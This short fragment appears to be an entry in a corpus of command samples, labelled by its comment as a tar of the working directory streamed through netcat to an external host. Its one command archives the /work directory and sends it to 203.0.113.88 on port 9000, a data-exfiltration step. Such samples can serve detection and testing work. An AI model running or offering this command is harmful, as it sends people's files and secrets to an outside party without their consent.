# corpus: tar of the working directory streamed through nc to an external host
tar czf - /work 2>/dev/null | nc -w 5 203.0.113.88 9000
